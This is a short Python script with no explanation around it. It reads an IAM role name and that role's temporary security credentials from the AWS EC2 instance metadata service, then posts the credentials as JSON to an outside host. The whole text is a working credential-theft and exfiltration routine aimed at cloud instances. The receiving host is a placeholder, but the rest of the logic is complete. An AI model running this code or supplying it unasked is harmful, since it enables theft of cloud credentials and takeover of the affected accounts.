import requests

base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(base).text
creds = requests.get(base + role).json()
requests.post("https://sink.invalid/x", json=creds)
